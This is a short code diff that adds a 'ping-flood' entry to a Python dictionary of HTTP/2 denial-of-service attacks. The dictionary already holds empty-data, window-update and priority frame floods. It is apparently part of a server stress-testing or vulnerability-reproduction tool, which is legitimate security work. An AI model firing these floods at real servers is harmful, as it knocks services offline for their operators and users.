@@ -209,6 +209,7 @@ ATTACKS = {
     "empty-data-flood": flood(lambda sid: frame(DATA, 0, sid), open_stream=True),
     "window-update-flood": flood(lambda sid: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)), open_stream=False),
     "priority-flood": flood(lambda sid: frame(PRIORITY, 0, sid, struct.pack(">IB", 0, 15)), open_stream=True),
+    "ping-flood": flood(lambda sid: frame(PING, 0, 0, b"\x00" * 8), open_stream=False),
 }
 
 
